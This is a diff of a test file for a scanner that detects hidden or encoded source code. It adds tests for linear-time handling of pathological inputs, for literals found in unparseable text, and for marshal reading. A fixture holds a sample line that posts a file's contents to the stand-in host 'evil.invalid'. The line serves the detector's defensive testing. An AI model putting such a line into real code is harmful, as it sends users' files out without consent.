@@ -17,7 +17,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from scanner.decode import blobs, marshal_reader, pickle_reader, steps
+from scanner.decode import blobs, broken, marshal_reader, pickle_reader, steps
 
 CODE = b"import requests\nrequests.post('https://evil.invalid', data=open('x').read())\n" * 3
 
@@ -234,3 +234,37 @@ def test_source_text_that_is_mirrored_is_told_by_its_words(step: str) -> None:
 @pytest.mark.parametrize("text", [CODE, b"the word tropmi stands for nothing\n", CODE + b"x = 'vzcbeg this'\n"])
 def test_a_text_that_is_no_source_either_way_or_is_source_already_is_left_alone(text: bytes) -> None:
     assert blobs.mirrored(text) is None
+
+
+def test_texts_that_nearly_match_are_left_in_linear_time() -> None:
+    for text in (
+        b"A" * 64 + b" " * 4_000_000 + b"=A",
+        b"1," * 40 + b"1" + b" " * 900_000 + b"x",
+        b"[" + b"1," * 40 + b"1" + b" " * 4_000_000 + b"x",
+    ):
+        assert list(blobs.unwrap(text)) == []
+    for text in (b"'\\" * 2_000_000, b'\\"' * 2_000_000, b'"""\\' * 900_000, b"chr(1)" * 8 + b" " * 4_000_000):
+        list(broken.literals(text))
+
+
+def test_literals_of_text_that_does_not_parse_are_found_behind_what_is_left_open() -> None:
+    hidden = base64.b64encode(CODE)
+    for text in (b'it\'s "%s"', b"x = = '''a' \"%s\"", b'"a" + b"%s"', b"don't = r'''%s'''", b'""""%s"'):
+        assert [out for _, _, out in broken.literals(text % hidden)] == [CODE], text
+
+
+def test_every_step_of_decoding_on_trial_is_paid_for() -> None:
+    paid: list[int] = []
+    data = zlib.compress(base64.b64encode(bytes(range(256)) * 90))
+    assert list(blobs.unwrap(data, paid.append)) == []
+    assert sum(paid) > 256 * 90
+
+
+def test_long_numbers_and_shared_keys_are_read_in_linear_time() -> None:
+    numbers = [1 << 299_000, -(3 << 200_000) - 5, (1 << 15) - 1, 1 << 30]
+    assert marshal_reader.read_marshal(marshal.dumps(numbers)) == numbers
+    big = bytes([ord("s") | 0x80]) + (4_000_000).to_bytes(4, "little") + bytes(4_000_000)
+    shared = b"[" + (2).to_bytes(4, "little") + big + b"{" + (b"r" + bytes(4) + b"N") * 100_000 + b"0"
+    assert marshal_reader.read_marshal(shared)[1] == {bytes(4_000_000): None}
+    listed, _ = marshal_reader.listing([bytes(4_000_000)] * 100_000)
+    assert len(listed) < 100_000_000
